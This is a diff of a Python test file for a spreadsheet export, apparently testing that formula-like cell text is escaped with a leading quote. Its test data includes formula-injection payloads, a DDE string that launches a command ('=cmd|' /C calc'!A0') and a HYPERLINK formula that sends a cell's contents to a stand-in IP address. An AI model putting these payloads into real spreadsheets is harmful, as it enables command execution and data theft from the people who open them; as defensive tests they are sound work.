@@ -24,7 +24,16 @@ COLUMNS = (
     Column("country", "Country", Type.COUNTRY),
 )
 ROW = {"title": "Дорога; „x“, y", "start": PartialDate(2023, 5, 4), "women": 1200, "share": 0.412, "value": 11.5, "verified": False}
-FORMULAS = ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "＝1", "=cmd|' /C calc'!A0")
+FORMULAS = {
+    "E01": "=1+1",
+    "E02": "=cmd|' /C calc'!A0",
+    "E03": '=HYPERLINK("http://192.0.2.1/?"&A1,"Open")',
+    "E04 a telephone number": "+254 700 000 000",
+    "E04 a number typed as text": "-1",
+    "E04 an old formula": "@SUM(A1)",
+    "E06": "\t=1",
+    "E07": "＝1",
+}
 
 
 def written(folder, sheet, language="en", languages=()):
@@ -64,13 +73,13 @@ def test_tags_stand_below_the_headings_and_totals_stay_out(tmp_path):
     assert read(path) == [["Women"], ["#reached+f"], ["3"], ["4"]]
 
 
-@pytest.mark.parametrize("text", FORMULAS)
+@pytest.mark.parametrize("text", FORMULAS.values(), ids=FORMULAS)
 def test_no_text_is_taken_for_a_formula(tmp_path, text):
     _, (cell,) = read(written(tmp_path, texts(text)))
     assert cell == f"'{text}"
 
 
-def test_a_negative_number_is_no_formula_and_control_characters_go(tmp_path):
+def test_E05_a_negative_number_is_no_formula_and_control_characters_go(tmp_path):
     _, row = read(written(tmp_path, a_table([{"value": -2.5, "title": "a\x00b\r\nc"}], (COLUMNS[4], COLUMNS[0]))))
     assert row == ["-2.5", "a�b\nc"]
 
